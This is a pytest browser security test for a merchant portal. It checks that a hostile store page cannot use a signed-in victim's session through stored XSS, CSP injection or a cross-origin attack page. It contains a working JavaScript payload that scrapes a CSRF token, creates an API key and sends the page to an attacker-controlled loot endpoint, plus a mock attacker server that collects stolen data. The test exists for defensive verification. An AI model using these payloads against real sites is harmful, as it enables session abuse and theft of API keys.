"""Real Chromium: a hostile merchant's store page cannot act with another merchant's session.

The victim is signed in to the portal; in the same browser they open the hostile store's
page and click every link on it. The hostile merchant has stored the best it can: rows
written straight into the database before the address rules (a ``javascript:`` support
link, a logo address that adds ``script-src 'unsafe-inline'`` to the CSP), and a link the
rules accept, to a page of its own on another origin that posts to the portal and tries
to read it. No API key may appear in the victim's store, and nothing of the portal may
reach the attacker.
"""
from __future__ import annotations

import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sqlalchemy import select

from oss_server.models import ApiKey
from oss_server.services import accounts
from tests.conftest import PASSWORD

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK),
                       reason=f"Chromium not installed at {CHROMIUM}"),
]

# Fetches the victim's keys page for its CSRF token, creates a key, sends the page home.
PAYLOAD = ("fetch('/account/stores/victim/keys').then(r=>r.text()).then(h=>fetch("
           "'/account/stores/victim/keys',{method:'POST',body:new URLSearchParams({csrf_token:"
           "h.match(/csrf_token\" type=\"hidden\" value=\"([^\"]+)/)[1],label:'pwned'})}))"
           ".then(r=>r.text()).then(h=>fetch('LOOT',{method:'POST',mode:'no-cors',body:h}))")

ATTACK_PAGE = """<!doctype html><title>Help</title>
<form id="f" method="post" action="APP/account/stores/victim/keys">
<input name="label" value="pwned"></form>
<script>
fetch("APP/account/stores/victim/keys", {credentials: "include"})
  .then(r => r.text()).catch(e => "error: " + e)
  .then(body => fetch("/loot", {method: "POST", body: body}))
  .finally(() => document.getElementById("f").submit());
</script>"""


class Attacker:
    """The hostile merchant's own site, on another origin: serves the page, keeps the loot."""

    def __init__(self, app_url: str):
        self.loot: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                body = ATTACK_PAGE.replace("APP", app_url).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):  # noqa: N802
                size = int(self.headers.get("Content-Length") or 0)
                attacker.loot.append(self.rfile.read(size).decode("utf-8", "replace"))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        # "localhost" and "127.0.0.1" are different sites to the browser.
        self.url = f"http://localhost:{self.server.server_port}"

    def close(self):
        self.server.shutdown()
        self.thread.join(timeout=10)
        self.server.server_close()


@pytest.fixture
def attacker(live_url):
    site = Attacker(live_url)
    yield site
    site.close()


@pytest.fixture
def stores(session, make_merchant, make_store, attacker):
    victim = make_merchant(email="victim@example.com")
    victim_store = make_store(merchant=victim, slug="victim", name="Victim Goods")
    hostile = make_merchant(email="hostile@example.com")
    # Old rows, written before the rules (or straight into the database).
    old = make_store(merchant=hostile, slug="evil", name="<script>alert(1)</script>")
    old.logo_url = "https://cdn.evil.test;script-src 'unsafe-inline'/l.png"
    old.support_url = "javascript:" + PAYLOAD.replace("LOOT", attacker.url + "/loot")
    old.accent_color = "red;}*{"  # the column holds 7 characters
    # What the rules let through today: a link to the attacker's own site.
    current = make_store(merchant=hostile, slug="evil-now", name="Evil Now")
    accounts.set_store_setting(current, "support_url", attacker.url + "/help")
    accounts.set_store_setting(current, "logo_url", attacker.url + "/logo.png")
    session.commit()
    return victim_store


@pytest.fixture
def browser_page():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        context = browser.new_context()
        page = context.new_page()
        page.set_default_timeout(10_000)
        page.dialogs = []
        page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
        yield page
        context.close()
        browser.close()


def _wait(predicate, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not predicate():
        time.sleep(0.1)


def _victim_keys(session, store) -> list:
    session.expire_all()
    return session.scalars(select(ApiKey).where(ApiKey.store_id == store.id)).all()


def test_hostile_store_page_cannot_use_a_signed_in_merchants_session(
        live_url, browser_page, stores, attacker, session):
    page = browser_page
    page.goto(f"{live_url}/account/login")
    page.get_by_label("Email").fill("victim@example.com")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{live_url}/account/")

    clicked = []
    for slug in ("evil", "evil-now"):
        page.goto(f"{live_url}/s/{slug}/")
        hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
        assert not [h for h in hrefs if not h.startswith(("http:", "https:", "mailto:", "tel:"))]
        for index in range(len(hrefs)):
            page.goto(f"{live_url}/s/{slug}/")
            link = page.locator("a[href]").nth(index)
            clicked.append(link.get_attribute("href"))
            # Focus and Enter: how a keyboard user follows it (the skip link is off-screen
            # until focused); the browser treats it as the same user activation as a click.
            link.focus()
            page.keyboard.press("Enter")
            page.wait_for_timeout(300)
        # Even a link that escaped the rules (a template mistake) cannot run: the CSP
        # allows no javascript: URL and no inline script.
        page.goto(f"{live_url}/s/{slug}/")
        page.evaluate("""payload => {
            const a = document.createElement('a');
            a.id = 'planted'; a.textContent = 'planted'; a.href = 'javascript:' + payload;
            document.body.appendChild(a);
        }""", PAYLOAD.replace("LOOT", attacker.url + "/loot"))
        page.click("#planted", no_wait_after=True)
        page.wait_for_timeout(500)

    assert f"{attacker.url}/help" in clicked  # the attacker's page was opened...
    _wait(lambda: attacker.loot, 10)
    assert attacker.loot  # ...and ran, but read nothing of the portal
    for body in attacker.loot:
        assert "oss_" not in body and "Victim Goods" not in body and "API keys" not in body
    assert _victim_keys(session, stores) == []
    assert page.dialogs == []
    # The victim's session is still theirs and still works.
    page.goto(f"{live_url}/account/stores/victim/keys")
    assert page.url == f"{live_url}/account/stores/victim/keys"
